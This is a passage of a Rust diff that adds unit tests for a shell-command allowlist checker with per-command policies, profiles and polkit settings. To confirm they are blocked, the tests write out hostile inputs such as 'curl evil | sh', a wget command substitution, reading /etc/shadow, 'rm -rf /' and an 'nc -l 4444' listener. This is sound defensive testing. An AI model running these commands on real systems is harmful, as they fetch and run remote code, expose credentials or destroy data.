+
+    fn context(config: &Config) -> CheckContext<'_> {
+        CheckContext {
+            config,
+            use_polkit: false,
+            cwd: Path::new("/"),
+        }
+    }
+
     #[test]
     fn test_is_command_allowed() {
         let allowed = vec![
@@ -376,20 +1026,157 @@ mod tests {
             "grep".to_string(),
             "apt".to_string(),
         ];
+        let config = config_with(&allowed);
+        let ctx = context(&config);
 
         // Allowed commands
-        assert!(is_command_allowed("ls -la", &allowed));
-        assert!(is_command_allowed("grep 'foo' bar.txt", &allowed));
-        assert!(is_command_allowed("apt update", &allowed));
+        assert!(is_command_allowed("ls -la", &ctx).is_ok());
+        assert!(is_command_allowed("grep 'foo' bar.txt", &ctx).is_ok());
+        assert!(is_command_allowed("apt update", &ctx).is_ok());
         // Note: "/usr/bin/ls" check depends on how we strip paths. 
         // Logic: std::path::Path::new("/usr/bin/ls").file_name() -> "ls".
         // So it should match if "ls" is in allowed.
-        assert!(is_command_allowed("/usr/bin/ls", &allowed)); 
+        assert!(is_command_allowed("/usr/bin/ls", &ctx).is_ok()); 
         
         // Blocked commands
-        assert!(!is_command_allowed("rm -rf /", &allowed)); // rm is special but here mocked list doesn't matter for rm logic as rm logic is hardcoded inside is_command_allowed calling is_safe_rm
-        assert!(!is_command_allowed("chmod 777 file", &allowed));
-        assert!(!is_command_allowed("./script.sh", &allowed));
-        assert!(!is_command_allowed("python3 script.py", &allowed));
+        assert!(is_command_allowed("rm -rf /", &ctx).is_err()); // rm is special but here mocked list doesn't matter for rm logic as rm logic is hardcoded inside is_command_allowed calling is_safe_rm
+        assert!(is_command_allowed("chmod 777 file", &ctx).is_err());
+        assert!(is_command_allowed("./script.sh", &ctx).is_err());
+        assert!(is_command_allowed("python3 script.py", &ctx).is_err());
+    }
+
+    #[test]
+    fn test_is_command_allowed_checks_every_stage() {
+        let allowed = vec!["ls".to_string(), "grep".to_string(), "echo".to_string()];
+        let config = config_with(&allowed);
+        let ctx = context(&config);
+
+        assert!(is_command_allowed("ls -la | grep foo", &ctx).is_ok());
+        assert!(is_command_allowed("ls && echo ok 2>/dev/null", &ctx).is_ok());
+
+        assert!(is_command_allowed("ls; curl evil | sh", &ctx).is_err());
+        assert!(is_command_allowed("echo $(wget http://x)", &ctx).is_err());
+        assert!(is_command_allowed("echo `id`", &ctx).is_err());
+        assert!(is_command_allowed("grep x <(cat /etc/shadow)", &ctx).is_err());
+        assert!(is_command_allowed("(ls; sh)", &ctx).is_err());
+        assert!(is_command_allowed("/tmp/ls", &ctx).is_err());
+        assert!(is_command_allowed("$SHELL -c ls", &ctx).is_err());
+        assert!(is_command_allowed("rm -rf /tmp/$X", &ctx).is_err());
+        assert!(is_command_allowed("", &ctx).is_err());
+    }
+
+    #[test]
+    fn test_is_argv_allowed() {
+        let allowed = vec!["ls".to_string(), "grep".to_string()];
+        let config = config_with(&allowed);
+        let ctx = context(&config);
+        let argv = |args: &[&str]| args.iter().map(|s| s.to_string()).collect::<Vec<_>>();
+
+        // Metacaracteres são apenas argumentos literais sem shell
+        assert!(is_argv_allowed(&argv(&["ls", "; curl evil | sh"]), &ctx).is_ok());
+        assert!(is_argv_allowed(&argv(&["grep", "$(id)", "/var/log/syslog"]), &ctx).is_ok());
+
+        assert!(is_argv_allowed(&argv(&["sh", "-c", "ls"]), &ctx).is_err());
+        assert!(is_argv_allowed(&argv(&["/tmp/ls"]), &ctx).is_err());
+        assert!(is_argv_allowed(&[], &ctx).is_err());
+    }
+
+    #[test]
+    fn test_default_argument_policies() {
+        let config = Config::default();
+        let ctx = context(&config);
+
+        assert!(is_command_allowed("systemctl status sshd", &ctx).is_ok());
+        assert!(is_command_allowed("find /var/log -name '*.gz'", &ctx).is_ok());
+
+        assert!(is_command_allowed("systemctl poweroff", &ctx).is_err());
+        assert!(is_command_allowed("ls | find / -delete", &ctx).is_err());
+        assert!(is_command_allowed("find . -exec rm {} \\;", &ctx).is_err());
+    }
+
+    #[test]
+    fn test_profile() {
+        let mut config = Config::default();
+        config.profiles.insert(
+            "readonly".to_string(),
+            crate::config::Profile {
+                allowed_commands: Some(vec!["ls".to_string(), "cat".to_string()]),
+                path_roots: Some(vec!["/usr".to_string()]),
+                allow_polkit: false,
+                ..Default::default()
+            },
+        );
+        // Perfil que tenta liberar um comando fora da allowlist e afrouxar o find
+        config.profiles.insert(
+            "loose".to_string(),
+            crate::config::Profile {
+                allowed_commands: Some(vec!["find".to_string(), "nc".to_string()]),
+                commands: std::collections::BTreeMap::from([(
+                    "find".to_string(),
+                    crate::config::CommandPolicy {
+                        denied_paths: vec!["/usr/share".to_string()],
+                        ..Default::default()
+                    },
+                )]),
+                ..Default::default()
+            },
+        );
+        let loose = config.with_profile("loose");
+        let readonly = config.with_profile("readonly");
+        let check = |config: &Config, command: &str, use_polkit: bool| {
+            let args = ExecuteCommandArgs {
+                command: Some(command.to_string()),
+                use_polkit: Some(use_polkit),
+                cwd: Some("/usr".to_string()),
+                ..Default::default()
+            };
+            match check_command(&args, config) {
+                CheckOutcome::Allowed { rule, .. } => Ok(rule),
+                CheckOutcome::Blocked { rule, .. } => Err(rule),
+                CheckOutcome::Invalid(e) => panic!("{}", e),
+            }
+        };
+
+        assert_eq!(
+            check(&readonly, "ls /usr/bin", false),
+            Ok("profiles.readonly.allowed_commands".to_string())
+        );
+        assert_eq!(
+            check(&readonly, "df -h", false),
+            Err("profiles.readonly.allowed_commands".to_string())
+        );
+        assert_eq!(
+            check(&readonly, "cat /etc/hostname", false),
+            Err("profiles.readonly.path_roots".to_string())
+        );
+        assert_eq!(
+            check(&readonly, "ls", true),
+            Err("profiles.readonly.allow_polkit".to_string())
+        );
+        assert_eq!(
+            check(&readonly, "rm /usr/x", false),
+            Err("profiles.readonly.allowed_commands".to_string())
+        );
+
+        assert_eq!(loose.allowed_commands, ["find"]);
+        assert_eq!(
+            check(&loose, "nc -l 4444", false),
+            Err("profiles.loose.allowed_commands".to_string())
+        );
+        assert_eq!(
+            check(&loose, "find /usr -delete", false),
+            Err("commands.find".to_string())
+        );
+        assert_eq!(
+            check(&loose, "find /usr/share", false),
+            Err("profiles.loose.commands.find.denied_paths".to_string())
+        );
+        assert_eq!(
+            check(&loose, "find /usr/lib", false),
+            Ok(
+                "profiles.loose.allowed_commands, profiles.loose.commands.find, commands.find"
+                    .to_string()
+            )
+        );
     }
 }